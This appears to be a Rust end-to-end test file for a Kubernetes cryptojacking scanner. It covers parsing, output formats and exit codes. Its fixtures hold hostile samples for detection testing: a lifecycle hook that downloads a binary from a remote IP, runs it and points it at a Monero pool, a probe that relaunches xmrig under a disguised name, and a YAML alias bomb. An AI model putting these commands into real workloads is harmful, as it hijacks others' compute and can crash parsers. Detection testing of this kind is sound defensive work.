//! `cryptojack scan` end to end: the real binary over fixtures, each input form, each output
//! format, exit codes and the messages for malformed input.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    reason = "test code: a failed unwrap is a failed test"
)]

use std::io::Write;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

use serde_json::{Value, json};

const FIXTURES: &str = "tests/fixtures/scan";

struct Output {
    code: i32,
    stdout: String,
    stderr: String,
}

impl Output {
    fn json(&self) -> Value {
        serde_json::from_str(&self.stdout).unwrap_or_else(|e| {
            panic!(
                "stdout is not JSON ({e}):\n{}\nstderr:\n{}",
                self.stdout, self.stderr
            )
        })
    }
}

fn root() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
}

fn scan_with_stdin(args: &[&str], stdin: Option<&str>) -> Output {
    let mut cmd = Command::new(env!("CARGO_BIN_EXE_cryptojack"));
    cmd.arg("scan").args(args).current_dir(root());
    cmd.stdin(if stdin.is_some() {
        Stdio::piped()
    } else {
        Stdio::null()
    });
    cmd.stdout(Stdio::piped()).stderr(Stdio::piped());
    let mut child = cmd.spawn().expect("spawn cryptojack");
    if let Some(input) = stdin {
        let mut pipe = child.stdin.take().expect("stdin pipe");
        pipe.write_all(input.as_bytes()).expect("write stdin");
    }
    let out = child.wait_with_output().expect("wait for cryptojack");
    Output {
        code: out.status.code().expect("exit code"),
        stdout: String::from_utf8(out.stdout).expect("utf-8 stdout"),
        stderr: String::from_utf8(out.stderr).expect("utf-8 stderr"),
    }
}

fn scan(args: &[&str]) -> Output {
    scan_with_stdin(args, None)
}

fn fixture(name: &str) -> String {
    format!("{FIXTURES}/{name}")
}

fn findings(report: &Value) -> &Vec<Value> {
    report["findings"].as_array().expect("findings array")
}

fn errors(report: &Value) -> &Vec<Value> {
    report["errors"].as_array().expect("errors array")
}

/// Every finding has the contract's fields with the contract's types.
fn assert_contract(report: &Value) {
    for f in findings(report) {
        for key in [
            "file", "kind", "name", "rule", "category", "severity", "field", "evidence",
        ] {
            assert!(
                f[key].is_string(),
                "finding field {key} must be a string: {f}"
            );
        }
        assert!(f["document"].is_u64(), "document must be an index: {f}");
        assert!(
            f["line"].as_u64().is_some_and(|l| l >= 1),
            "line must be >= 1: {f}"
        );
        assert!(
            f["namespace"].is_string() || f["namespace"].is_null(),
            "{f}"
        );
        assert!(
            f["container"].is_string() || f["container"].is_null(),
            "{f}"
        );
        assert!(f.get("item").is_none_or(Value::is_u64), "{f}");
        assert!(
            ["critical", "high", "medium", "low"].contains(&f["severity"].as_str().unwrap_or("")),
            "{f}"
        );
        assert!(
            f["evidence"]
                .as_str()
                .is_some_and(|e| e.chars().count() <= 120),
            "{f}"
        );
    }
    let s = &report["summary"];
    for key in ["critical", "high", "medium", "low"] {
        assert!(
            s["bySeverity"][key].is_u64(),
            "bySeverity.{key} missing: {s}"
        );
    }
    for key in [
        "miner-image",
        "miner-binary",
        "miner-flags",
        "pool",
        "wallet",
        "known-ioc",
        "gpu-unapproved",
        "port",
        "node",
    ] {
        assert!(
            s["byCategory"][key].is_u64(),
            "byCategory.{key} missing: {s}"
        );
    }
    for key in ["documents", "skipped", "errors", "objects"] {
        assert!(s[key].is_u64(), "summary.{key} missing: {s}");
    }
    let total: u64 = ["critical", "high", "medium", "low"]
        .iter()
        .map(|k| s["bySeverity"][k].as_u64().unwrap_or(0))
        .sum();
    assert_eq!(total as usize, findings(report).len());
    assert_eq!(s["errors"].as_u64(), Some(errors(report).len() as u64));
    for e in errors(report) {
        assert!(e["file"].is_string() && e["message"].is_string(), "{e}");
        for key in ["document", "line", "column"] {
            assert!(e[key].is_u64() || e[key].is_null(), "error.{key}: {e}");
        }
    }
}

fn categories_of<'a>(report: &'a Value, name: &str) -> Vec<&'a str> {
    findings(report)
        .iter()
        .filter(|f| f["name"] == name)
        .filter_map(|f| f["category"].as_str())
        .collect()
}

#[test]
fn single_file_multi_document_yaml() {
    let out = scan(&[&fixture("multi.yaml"), "--format", "json"]);
    assert_eq!(out.code, 1, "a miner is found: {}", out.stderr);
    let report = out.json();
    assert_contract(&report);
    let miner: Vec<&Value> = findings(&report)
        .iter()
        .filter(|f| f["name"] == "miner")
        .collect();
    assert!(!miner.is_empty());
    for f in &miner {
        assert_eq!(f["file"], fixture("multi.yaml"));
        assert_eq!(f["document"], 0);
        assert_eq!(f["kind"], "Pod");
        assert_eq!(f["namespace"], "team-a");
        assert_eq!(f["container"], "main");
        assert!(f.get("item").is_none(), "not a List: no item");
    }
    // The image finding points at the image line (line 10 of the file).
    let image = miner
        .iter()
        .find(|f| f["field"] == "spec.containers[0].image")
        .expect("a finding on the image");
    assert_eq!(image["line"], 10);
    assert!(categories_of(&report, "web").is_empty(), "nginx is benign");
    let s = &report["summary"];
    assert_eq!(s["documents"], 3);
    assert_eq!(s["objects"], 2);
    assert_eq!(s["skipped"], 1, "the Service is skipped and counted");
    assert_eq!(s["errors"], 0);
}

#[test]
fn directory_is_walked_recursively_in_order() {
    let out = scan(&[&fixture("tree"), "--format", "json"]);
    assert_eq!(out.code, 1, "{}", out.stderr);
    let report = out.json();
    assert_contract(&report);
    let mut files: Vec<&str> = findings(&report)
        .iter()
        .filter_map(|f| f["file"].as_str())
        .collect();
    files.dedup();
    assert_eq!(
        files,
        vec![
            fixture("tree/a-miner.yaml"),
            fixture("tree/nested/deeper/c-miner.json")
        ],
        "sorted walk; notes.txt is not read; b-benign.yml has no finding"
    );
    assert_eq!(
        report["summary"]["documents"], 3,
        ".yaml, .yml and .json are read, .txt is not"
    );
    let c = findings(&report)
        .iter()
        .find(|f| f["name"] == "c")
        .expect("the Job");
    assert_eq!(c["kind"], "Job");
    assert!(
        c["field"]
            .as_str()
            .is_some_and(|p| p.starts_with("spec.template.spec.containers[0]"))
    );
}

#[test]
fn stdin_yaml_and_json() {
    let yaml = std::fs::read_to_string(root().join(fixture("multi.yaml"))).expect("fixture");
    let out = scan_with_stdin(&["-", "--format", "json"], Some(&yaml));
    assert_eq!(out.code, 1, "{}", out.stderr);
    let report = out.json();
    assert!(findings(&report).iter().all(|f| f["file"] == "-"));
    assert_eq!(report["summary"]["documents"], 3);

    let json = std::fs::read_to_string(root().join(fixture("kubectl-list.json"))).expect("fixture");
    let out = scan_with_stdin(&["-", "--format", "json"], Some(&json));
    assert_eq!(out.code, 1, "{}", out.stderr);
    let report = out.json();
    assert!(
        !categories_of(&report, "helper-x2").is_empty(),
        "JSON sniffed on stdin"
    );
}

#[test]
fn json_stream_documents() {
    let out = scan(&[&fixture("stream.json"), "--format", "json"]);
    assert_eq!(out.code, 1, "{}", out.stderr);
    let report = out.json();
    assert_contract(&report);
    assert_eq!(report["summary"]["documents"], 2);
    let two: Vec<&Value> = findings(&report)
        .iter()
        .filter(|f| f["name"] == "two")
        .collect();
    assert!(!two.is_empty());
    assert!(two.iter().all(|f| f["document"] == 1));
    let image = two
        .iter()
        .find(|f| f["field"] == "spec.containers[0].image")
        .expect("image finding");
    assert_eq!(
        image["line"], 3,
        "line of the image inside the second JSON value"
    );
    assert!(categories_of(&report, "one").is_empty());
}

#[test]
fn kubectl_list_items_are_scanned_with_their_index() {
    let out = scan(&[&fixture("kubectl-list.json"), "--format", "json"]);
    assert_eq!(out.code, 1, "{}", out.stderr);
    let report = out.json();
    assert_contract(&report);
    let helper: Vec<&Value> = findings(&report)
        .iter()
        .filter(|f| f["name"] == "helper-x2")
        .collect();
    assert!(!helper.is_empty(), "the miner in item 2 is found");
    for f in &helper {
        assert_eq!(f["document"], 0);
        assert_eq!(f["item"], 2);
        assert_eq!(f["namespace"], "prod");
        assert!(
            f["field"]
                .as_str()
                .is_some_and(|p| p.starts_with("spec.containers[0]")),
            "{f}"
        );
        assert!(
            f["line"].as_u64().is_some_and(|l| l > 30),
            "located inside item 2: {f}"
        );
    }
    let cats = categories_of(&report, "helper-x2");
    assert!(cats.contains(&"miner-binary"), "{cats:?}");
    assert!(cats.contains(&"pool"), "{cats:?}");
    assert!(categories_of(&report, "api-5d8c").is_empty());
    let s = &report["summary"];
    assert_eq!(s["documents"], 1);
    assert_eq!(s["objects"], 2);
    assert_eq!(s["skipped"], 1, "the ConfigMap item");
}

#[test]
fn table_output_is_sorted_by_severity_with_a_summary() {
    let out = scan(&[&fixture("multi.yaml"), &fixture("ports-only.yaml")]);
    assert_eq!(out.code, 1, "{}", out.stderr);
    let lines: Vec<&str> = out.stdout.lines().collect();
    assert!(
        lines[0].starts_with("SEVERITY"),
        "header first: {}",
        out.stdout
    );
    for col in [
        "LOCATION",
        "OBJECT",
        "CONTAINER",
        "CATEGORY",
        "RULE",
        "EVIDENCE",
    ] {
        assert!(lines[0].contains(col), "{}", lines[0]);
    }
    let rank = |l: &str| match l.split_whitespace().next() {
        Some("critical") => 3,
        Some("high") => 2,
        Some("medium") => 1,
        Some("low") => 0,
        _ => -1,
    };
    let rows: Vec<&str> = lines[1..]
        .iter()
        .copied()
        .take_while(|l| !l.is_empty())
        .collect();
    assert!(rows.len() >= 2, "{}", out.stdout);
    let ranks: Vec<i32> = rows.iter().map(|l| rank(l)).collect();
    assert!(ranks.iter().all(|r| *r >= 0), "{}", out.stdout);
    assert!(
        ranks.windows(2).all(|w| w[0] >= w[1]),
        "sorted by severity: {}",
        out.stdout
    );
    assert!(
        rows[0].contains("multi.yaml:0") && rows[0].contains("Pod team-a/miner"),
        "{}",
        rows[0]
    );
    assert!(
        rows.last().is_some_and(|r| r.contains("ports-only.yaml:0")),
        "{}",
        out.stdout
    );
    let summary = lines.last().expect("summary line");
    assert!(
        summary.contains("findings")
            && summary.contains("4 documents")
            && summary.contains("1 skipped"),
        "{summary}"
    );
}

#[test]
fn exit_codes_follow_fail_on() {
    // Benign: 0.
    let out = scan(&[&fixture("benign.yaml")]);
    assert_eq!(out.code, 0, "{}{}", out.stdout, out.stderr);
    // Port only: a low finding, under the default --fail-on high.
    let out = scan(&[&fixture("ports-only.yaml"), "--format", "json"]);
    assert_eq!(out.code, 0, "{}", out.stderr);
    let report = out.json();
    let sev: Vec<&str> = findings(&report)
        .iter()
        .filter_map(|f| f["severity"].as_str())
        .collect();
    assert_eq!(sev, vec!["low"], "a port alone is a low signal");
    assert_eq!(
        scan(&[&fixture("ports-only.yaml"), "--fail-on", "low"]).code,
        1
    );
    assert_eq!(
        scan(&[&fixture("ports-only.yaml"), "--fail-on", "medium"]).code,
        0
    );
    // A miner image: critical, fails at every level.
    for level in ["critical", "high", "medium", "low"] {
        assert_eq!(
            scan(&[&fixture("multi.yaml"), "--fail-on", level]).code,
            1,
            "--fail-on {level}"
        );
    }
    // An unapproved GPU is high: not at --fail-on critical.
    let gpu = "examples/workloads/unapproved-gpu-job.yaml";
    assert_eq!(scan(&[gpu, "--fail-on", "critical"]).code, 0);
    assert_eq!(scan(&[gpu]).code, 1);
    // Errors take precedence over findings.
    assert_eq!(
        scan(&[&fixture("multi.yaml"), "does/not/exist.yaml"]).code,
        2
    );
    // Unknown --fail-on value: clap usage error (2).
    assert_eq!(
        scan(&[&fixture("benign.yaml"), "--fail-on", "severe"]).code,
        2
    );
}

#[test]
fn bad_yaml_reports_line_and_column_and_continues() {
    let out = scan(&[&fixture("bad-yaml.yaml"), "--format", "json"]);
    assert_eq!(out.code, 2);
    let report = out.json();
    assert_contract(&report);
    let errs = errors(&report);
    assert_eq!(errs.len(), 1, "{errs:?}");
    let e = &errs[0];
    assert_eq!(e["file"], fixture("bad-yaml.yaml"));
    assert_eq!(e["document"], 1);
    assert_eq!(e["kind"], "yaml");
    let line = e["line"].as_u64().expect("line");
    assert!(
        (12..=14).contains(&line),
        "the broken flow sequence is on line 12: {e}"
    );
    assert!(e["column"].as_u64().is_some(), "{e}");
    assert!(
        e["message"]
            .as_str()
            .is_some_and(|m| m.starts_with("invalid YAML")),
        "{e}"
    );
    // The documents before and after are still scanned.
    assert!(!categories_of(&report, "ok-before").is_empty());
    assert!(!categories_of(&report, "ok-after").is_empty());
    let after = findings(&report)
        .iter()
        .find(|f| f["name"] == "ok-after")
        .expect("ok-after");
    assert_eq!(after["document"], 2);
    // And stderr says it too, with the position.
    assert!(
        out.stderr
            .contains(&format!("{}:{line}:", fixture("bad-yaml.yaml")))
            && out.stderr.contains("document 1"),
        "{}",
        out.stderr
    );
}

#[test]
fn wrong_typed_field_names_the_field_path() {
    let out = scan(&[&fixture("bad-type.yaml"), "--format", "json"]);
    assert_eq!(out.code, 2);
    let report = out.json();
    let e = &errors(&report)[0];
    assert_eq!(e["kind"], "decode");
    assert_eq!(e["document"], 0);
    assert_eq!(e["line"], 13, "line of `command: 5`: {e}");
    let msg = e["message"].as_str().expect("message");
    assert!(
        msg.contains("spec.template.spec.containers[0].command: invalid type: integer `5`, expected a sequence"),
        "{msg}"
    );
    assert!(msg.contains("Deployment") && msg.contains("typo"), "{msg}");
}

#[test]
fn invalid_policy_names_the_policy_field() {
    let out = scan(&[
        &fixture("benign.yaml"),
        "--policy",
        &fixture("policies/bad-regex.yaml"),
        "--format",
        "json",
    ]);
    assert_eq!(out.code, 2, "{}", out.stderr);
    let report = out.json();
    let errs = errors(&report);
    assert!(!errs.is_empty());
    let e = errs
        .iter()
        .find(|e| e["kind"] == "invalid_policy")
        .expect("invalid_policy error");
    assert_eq!(e["file"], fixture("policies/bad-regex.yaml"));
    assert_eq!(e["document"], 0);
    let msg = e["message"].as_str().expect("message");
    assert!(msg.contains("broken-regex"), "{msg}");
    assert!(msg.contains("spec.detect.commands[1].pattern"), "{msg}");
    assert_eq!(e["line"], 10, "line of the bad pattern: {e}");
    // The other inputs were still scanned (nothing to find in them).
    assert_eq!(report["summary"]["documents"], 1);

    let out = scan(&[
        &fixture("benign.yaml"),
        "--policy",
        &fixture("policies/not-a-policy.yaml"),
    ]);
    assert_eq!(out.code, 2);
    assert!(
        out.stderr.contains("expected kind CryptojackPolicy"),
        "{}",
        out.stderr
    );
}

#[test]
fn policy_with_a_wrong_value_names_the_field_and_line() {
    let out = scan(&[
        &fixture("benign.yaml"),
        "--policy",
        &fixture("policies/bad-mode.yaml"),
        "--format",
        "json",
    ]);
    assert_eq!(out.code, 2, "{}", out.stderr);
    let report = out.json();
    let e = &errors(&report)[0];
    assert_eq!(e["kind"], "invalid_policy");
    assert_eq!(e["line"], 6, "{e}");
    let msg = e["message"].as_str().expect("message");
    assert!(
        msg.contains("\"bad-mode\"") && msg.contains("spec.mode: unknown variant `Terminate`"),
        "{msg}"
    );
}

#[test]
fn unreadable_and_non_utf8_inputs() {
    let dir = tempfile::tempdir().expect("tempdir");
    let bad = dir.path().join("latin1.yaml");
    std::fs::write(
        &bad,
        b"apiVersion: v1\nkind: Pod\nmetadata: {name: \"\xff\xfe\"}\n",
    )
    .expect("write");
    let bad = bad.to_string_lossy().to_string();
    let out = scan(&[
        "does/not/exist.yaml",
        &bad,
        &fixture("multi.yaml"),
        "--format",
        "json",
    ]);
    assert_eq!(out.code, 2);
    let report = out.json();
    assert_contract(&report);
    let errs = errors(&report);
    assert_eq!(errs.len(), 2, "{errs:?}");
    assert_eq!(errs[0]["file"], "does/not/exist.yaml");
    assert_eq!(errs[0]["kind"], "read");
    assert!(errs[0]["document"].is_null() && errs[0]["line"].is_null());
    assert!(
        errs[0]["message"]
            .as_str()
            .is_some_and(|m| m.contains("does/not/exist.yaml"))
    );
    assert_eq!(errs[1]["kind"], "not_utf8");
    assert!(
        !findings(&report).is_empty(),
        "the readable file is still scanned"
    );
    assert!(
        out.stderr.contains("cannot read does/not/exist.yaml"),
        "{}",
        out.stderr
    );
}

#[test]
fn several_policies_merge_and_dedupe() {
    let policies = fixture("policies/two-policies.yaml");
    let out = scan(&[
        &fixture("multi.yaml"),
        &fixture("mirror-image.yaml"),
        "--policy",
        &policies,
        "--format",
        "json",
    ]);
    assert_eq!(out.code, 1, "{}", out.stderr);
    let report = out.json();
    assert_eq!(
        report["summary"]["policies"],
        serde_json::json!(["first", "second"])
    );
    // Both policies have the built-in set: the miner's findings are not doubled.
    let miner: Vec<(&str, &str)> = findings(&report)
        .iter()
        .filter(|f| f["name"] == "miner")
        .map(|f| {
            (
                f["rule"].as_str().unwrap_or(""),
                f["field"].as_str().unwrap_or(""),
            )
        })
        .collect();
    let mut unique = miner.clone();
    unique.sort();
    unique.dedup();
    assert_eq!(miner.len(), unique.len(), "duplicates: {miner:?}");
    // The second policy's own rule fires on the mirrored image.
    let mirrored: Vec<&Value> = findings(&report)
        .iter()
        .filter(|f| f["name"] == "mirrored")
        .collect();
    assert!(
        mirrored
            .iter()
            .any(|f| f["rule"] == "custom/mirror" && f["severity"] == "critical"),
        "{mirrored:?}"
    );
}

#[test]
fn sarif_output_structure() {
    let out = scan(&[
        &fixture("multi.yaml"),
        &fixture("kubectl-list.json"),
        &fixture("ports-only.yaml"),
        "--format",
        "sarif",
    ]);
    assert_eq!(out.code, 1, "{}", out.stderr);
    let log = out.json();
    assert_eq!(log["version"], "2.1.0");
    assert!(
        log["$schema"]
            .as_str()
            .is_some_and(|s| s.contains("sarif-schema-2.1.0"))
    );
    let runs = log["runs"].as_array().expect("runs");
    assert_eq!(runs.len(), 1);
    let driver = &runs[0]["tool"]["driver"];
    assert_eq!(driver["name"], "cryptojack");
    assert!(driver["version"].is_string() && driver["informationUri"].is_string());
    let rules = driver["rules"].as_array().expect("rules");
    for r in rules {
        assert!(r["id"].is_string() && r["shortDescription"]["text"].is_string());
        assert!(
            ["error", "warning", "note"]
                .contains(&r["defaultConfiguration"]["level"].as_str().unwrap_or(""))
        );
    }
    let results = runs[0]["results"].as_array().expect("results");
    assert!(!results.is_empty());
    for res in results {
        let idx = res["ruleIndex"].as_u64().expect("ruleIndex") as usize;
        assert_eq!(rules[idx]["id"], res["ruleId"]);
        let sev = res["properties"]["severity"].as_str().expect("severity");
        let want = match sev {
            "critical" | "high" => "error",
            "medium" => "warning",
            _ => "note",
        };
        assert_eq!(res["level"], want);
        let loc = &res["locations"][0];
        let uri = loc["physicalLocation"]["artifactLocation"]["uri"]
            .as_str()
            .expect("uri");
        assert!(uri.starts_with(FIXTURES), "relative uri: {uri}");
        assert!(
            loc["physicalLocation"]["region"]["startLine"]
                .as_u64()
                .is_some_and(|l| l >= 1)
        );
        let fq = loc["logicalLocations"][0]["fullyQualifiedName"]
            .as_str()
            .expect("fqn");
        assert!(fq.split('/').count() >= 3, "{fq}");
        assert!(
            res["properties"]["category"].is_string() && res["properties"]["field"].is_string()
        );
    }
    let helper = results
        .iter()
        .find(|r| {
            r["locations"][0]["logicalLocations"][0]["fullyQualifiedName"]
                == "Pod/prod/helper-x2/helper"
        })
        .expect("kind/namespace/name/container");
    assert_eq!(helper["properties"]["item"], 2);
    assert!(
        runs[0]["invocations"][0]["executionSuccessful"]
            .as_bool()
            .expect("bool")
    );
}

/// The SARIF output validates against the official SARIF 2.1.0 schema, with the validator
/// named by CRYPTOJACK_SARIF_VALIDATOR (scripts/validate-sarif.py). Without it: skipped
/// locally, a failure on CI (CI=true).
#[test]
fn sarif_validates_against_the_official_schema() {
    let validator = std::env::var("CRYPTOJACK_SARIF_VALIDATOR")
        .ok()
        .filter(|v| !v.is_empty());
    let Some(validator) = validator else {
        if std::env::var("CI").is_ok_and(|v| v == "true") {
            panic!("CRYPTOJACK_SARIF_VALIDATOR is not set on CI (scripts/test.sh sets it)");
        }
        eprintln!(
            "skipped: set CRYPTOJACK_SARIF_VALIDATOR=scripts/validate-sarif.py to validate SARIF"
        );
        return;
    };
    let dir = tempfile::tempdir().expect("tempdir");
    let cases: [(&str, Vec<String>); 3] = [
        (
            "findings",
            vec!["examples/workloads".into(), fixture("kubectl-list.json")],
        ),
        (
            "errors",
            vec![
                fixture("bad-yaml.yaml"),
                fixture("bad-type.yaml"),
                "does/not/exist.yaml".into(),
            ],
        ),
        ("empty", vec![fixture("benign.yaml")]),
    ];
    let mut files = Vec::new();
    for (name, inputs) in &cases {
        let mut args: Vec<&str> = inputs.iter().map(String::as_str).collect();
        args.extend(["--format", "sarif"]);
        let out = scan(&args);
        assert!(out.code <= 2, "{}", out.stderr);
        let path = dir.path().join(format!("{name}.sarif"));
        std::fs::write(&path, &out.stdout).expect("write sarif");
        files.push(path);
    }
    let validator_path = if Path::new(&validator).is_absolute() {
        PathBuf::from(&validator)
    } else {
        root().join(&validator)
    };
    let status = Command::new(&validator_path)
        .args(&files)
        .current_dir(root())
        .output()
        .unwrap_or_else(|e| panic!("cannot run {}: {e}", validator_path.display()));
    assert!(
        status.status.success(),
        "SARIF does not validate:\n{}{}",
        String::from_utf8_lossy(&status.stdout),
        String::from_utf8_lossy(&status.stderr)
    );
}

#[test]
fn sarif_validator_rejects_an_invalid_log() {
    // Guards against a validator that accepts anything.
    let Some(validator) = std::env::var("CRYPTOJACK_SARIF_VALIDATOR")
        .ok()
        .filter(|v| !v.is_empty())
    else {
        if std::env::var("CI").is_ok_and(|v| v == "true") {
            panic!("CRYPTOJACK_SARIF_VALIDATOR is not set on CI");
        }
        return;
    };
    let dir = tempfile::tempdir().expect("tempdir");
    let path = dir.path().join("bad.sarif");
    std::fs::write(&path, r#"{"version": "2.1.0", "runs": [{"tool": {"driver": {}}, "results": [{"level": "fatal"}]}]}"#)
        .expect("write");
    let validator_path = if Path::new(&validator).is_absolute() {
        PathBuf::from(&validator)
    } else {
        root().join(&validator)
    };
    let out = Command::new(&validator_path)
        .arg(&path)
        .current_dir(root())
        .output()
        .expect("run validator");
    assert!(!out.status.success(), "an invalid log must be rejected");
}

#[test]
fn hostile_documents_are_errors_not_crashes() {
    // 100,000 nested sequences, an alias bomb ("billion laughs"), a 5,000-deep mapping, each
    // followed by a real miner: every hostile document is a bounded parser error naming its
    // document, and the miner after it is still found.
    let miner = "---\napiVersion: v1\nkind: Pod\nmetadata: {name: after}\nspec:\n  containers:\n  - {name: m, image: metal3d/xmrig}\n";
    let mut bomb = String::from("a: &a [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n");
    let mut prev = 'a';
    for name in "bcdefghi".chars() {
        bomb.push_str(&format!(
            "{name}: &{name} [{}]\n",
            vec![format!("*{prev}"); 9].join(", ")
        ));
        prev = name;
    }
    let deep_map: String = (0..5_000)
        .map(|i| format!("{}k:\n", " ".repeat(i)))
        .collect();
    let nested = format!("a: {}{}\n", "[".repeat(100_000), "]".repeat(100_000));
    for (what, doc) in [
        ("nested", nested),
        ("alias bomb", bomb),
        ("deep map", deep_map),
    ] {
        let out = scan_with_stdin(&["-", "--format", "json"], Some(&format!("{doc}{miner}")));
        assert_eq!(out.code, 2, "{what}: {}", out.stderr);
        let report = out.json();
        let errs = errors(&report);
        assert_eq!(errs.len(), 1, "{what}: {errs:?}");
        assert_eq!(
            (&errs[0]["document"], &errs[0]["kind"]),
            (&json!(0), &json!("yaml")),
            "{what}"
        );
        assert!(!categories_of(&report, "after").is_empty(), "{what}");
    }
    // JSON nesting is bounded too
    let out = scan_with_stdin(
        &["-", "--format", "json"],
        Some(&format!("{}{}", "[".repeat(100_000), "]".repeat(100_000))),
    );
    assert_eq!(out.code, 2);
    assert_eq!(errors(&out.json())[0]["kind"], "json");
}

#[test]
fn dra_claims_are_resolved_from_objects_in_the_same_input() {
    let dir = tempfile::tempdir().expect("tempdir");
    let template = "apiVersion: resource.k8s.io/v1
kind: ResourceClaimTemplate
metadata: {name: gpu-claim, namespace: ml}
spec:
  spec:
    devices:
      requests:
      - name: gpu
        exactly: {deviceClassName: gpu.nvidia.com, count: 2}
---
apiVersion: resource.k8s.io/v1
kind: ResourceClaimTemplate
metadata: {name: fast-disk, namespace: ml}
spec:
  spec:
    devices:
      requests:
      - name: disk
        exactly: {deviceClassName: nvme.example.com}
";
    let pods = "apiVersion: v1
kind: Pod
metadata: {name: trainer, namespace: ml}
spec:
  resourceClaims:
  - {name: accel, resourceClaimTemplateName: gpu-claim}
  containers:
  - name: sidecar
    image: busybox
  - name: main
    image: ghcr.io/example/train:1
    resources:
      claims:
      - name: accel
---
apiVersion: v1
kind: Pod
metadata: {name: indexer, namespace: ml}
spec:
  resourceClaims:
  - {name: scratch, resourceClaimTemplateName: fast-disk}
  containers:
  - name: main
    image: ghcr.io/example/index:1
    resources:
      claims: [{name: scratch}]
---
apiVersion: v1
kind: Pod
metadata: {name: elsewhere, namespace: other}
spec:
  resourceClaims:
  - {name: accel, resourceClaimTemplateName: gpu-claim}
  containers:
  - name: main
    image: ghcr.io/example/train:1
";
    // the pods come first, the claim templates in another file after them
    std::fs::write(dir.path().join("a-pods.yaml"), pods).expect("write");
    std::fs::write(dir.path().join("b-claims.yaml"), template).expect("write");
    let path = dir.path().to_string_lossy().to_string();
    let out = scan(&[&path, "--format", "json"]);
    assert_eq!(out.code, 1, "{}", out.stderr);
    let report = out.json();
    assert_contract(&report);
    let gpu: Vec<&Value> = findings(&report)
        .iter()
        .filter(|f| f["category"] == "gpu-unapproved")
        .collect();
    assert_eq!(gpu.len(), 1, "{gpu:?}");
    assert_eq!(gpu[0]["name"], "trainer");
    assert_eq!(gpu[0]["container"], "main");
    assert_eq!(gpu[0]["field"], "spec.containers[1].resources.claims[0]");
    assert_eq!(gpu[0]["line"], 14, "the line of the claim reference");
    assert!(
        gpu[0]["evidence"]
            .as_str()
            .is_some_and(|e| e.contains("gpu.nvidia.com") && e.contains("gpu-claim")),
        "{}",
        gpu[0]["evidence"]
    );
    assert_eq!(report["summary"]["objects"], 3);
    assert_eq!(report["summary"]["skipped"], 2, "the claim templates");
    // the same in one JSON List, claims after the pods
    let pods_json: Vec<Value> = pods
        .split("---\n")
        .map(|d| serde_saphyr::from_str::<Value>(d).expect("yaml"))
        .collect();
    let claims_json: Vec<Value> = template
        .split("---\n")
        .map(|d| serde_saphyr::from_str::<Value>(d).expect("yaml"))
        .collect();
    let list = json!({"apiVersion": "v1", "kind": "List",
        "items": pods_json.into_iter().chain(claims_json).collect::<Vec<_>>()});
    let out = scan_with_stdin(
        &["-", "--format", "json"],
        Some(&serde_json::to_string_pretty(&list).expect("json")),
    );
    assert_eq!(out.code, 1, "{}", out.stderr);
    let report = out.json();
    let gpu: Vec<&Value> = findings(&report)
        .iter()
        .filter(|f| f["category"] == "gpu-unapproved")
        .collect();
    assert_eq!(gpu.len(), 1);
    assert_eq!(gpu[0]["item"], 0);
}

#[test]
fn the_fast_yaml_path_agrees_with_the_full_parser() {
    // every example workload, read once by the block-YAML fast path and once by the full
    // YAML parser (an anchor, which the fast path leaves to it, appended): the same findings
    // at the same lines
    let dir = tempfile::tempdir().expect("tempdir");
    let mut compared = 0;
    let mut entries: Vec<_> = std::fs::read_dir(root().join("examples/workloads"))
        .expect("examples")
        .flatten()
        .map(|e| e.path())
        .filter(|p| p.extension().is_some_and(|e| e == "yaml"))
        .collect();
    entries.sort();
    for p in entries {
        let text = std::fs::read_to_string(&p).expect("read");
        if text.matches("\n---").count() > 0 {
            continue;
        }
        let name = p.file_name().expect("name").to_string_lossy().to_string();
        let fast = dir.path().join(format!("fast-{name}"));
        let full = dir.path().join(format!("full-{name}"));
        std::fs::write(&fast, &text).expect("write");
        std::fs::write(
            &full,
            format!("{}\nxAnchored: &anchor 1\n", text.trim_end()),
        )
        .expect("write");
        let a = scan(&[&fast.to_string_lossy(), "--format", "json"]).json();
        let b = scan(&[&full.to_string_lossy(), "--format", "json"]).json();
        let key = |r: &Value| {
            findings(r)
                .iter()
                .map(|f| {
                    (
                        f["rule"].to_string(),
                        f["field"].to_string(),
                        f["line"].to_string(),
                        f["severity"].to_string(),
                        f["evidence"].to_string(),
                    )
                })
                .collect::<Vec<_>>()
        };
        assert_eq!(key(&a), key(&b), "{name}");
        assert_eq!(a["summary"]["errors"], b["summary"]["errors"], "{name}");
        compared += 1;
    }
    assert!(compared >= 15, "{compared}");
}

/// `scan --format json` of `text` as written (the block-YAML fast path) and with an anchor
/// appended (which the fast path leaves to the full YAML parser).
fn scan_on_both_yaml_paths(text: &str) -> Vec<Output> {
    let dir = tempfile::tempdir().expect("tempdir");
    let fast = dir.path().join("fast.yaml");
    let full = dir.path().join("full.yaml");
    std::fs::write(&fast, text).expect("write");
    std::fs::write(
        &full,
        format!("{}\nxAnchored: &anchor 1\n", text.trim_end()),
    )
    .expect("write");
    [&fast, &full]
        .iter()
        .map(|p| scan(&[&p.to_string_lossy(), "--format", "json"]))
        .collect()
}

#[test]
fn lifecycle_hooks_and_exec_probes_are_scanned_on_both_paths() {
    // a miner started from a postStart hook, one re-spawned by a liveness probe, and a
    // workload with the usual probes and hooks; read by the fast path and by the full parser
    let text = r#"apiVersion: apps/v1
kind: Deployment
metadata: {name: storefront, namespace: shop}
spec:
  selector: {matchLabels: {app: storefront}}
  template:
    metadata: {labels: {app: storefront}}
    spec:
      containers:
        - name: nginx
          image: nginx:1.27-alpine
          lifecycle:
            postStart:
              exec:
                command: ["/bin/sh", "-c", "wget -qO /tmp/.c http://10.1.2.3/n && chmod +x /tmp/.c && nohup /tmp/.c -o pool.supportxmr.com:443 --tls &"]
---
apiVersion: apps/v1
kind: StatefulSet
metadata: {name: zookeeper, namespace: streaming}
spec:
  serviceName: zk
  selector: {matchLabels: {app: zk}}
  template:
    metadata: {labels: {app: zk}}
    spec:
      containers:
        - name: zookeeper
          image: zookeeper:3.9
          livenessProbe:
            exec:
              command: ["sh", "-c", "pgrep -f zkjvm || (cp /usr/bin/xmrig /tmp/zkjvm; nohup /tmp/zkjvm -B &); echo ruok | nc 127.0.0.1 2181"]
---
apiVersion: apps/v1
kind: Deployment
metadata: {name: db, namespace: shop}
spec:
  selector: {matchLabels: {app: db}}
  template:
    metadata: {labels: {app: db}}
    spec:
      containers:
        - name: postgres
          image: postgres:16
          readinessProbe:
            exec: {command: ["pg_isready", "-U", "postgres"]}
          startupProbe:
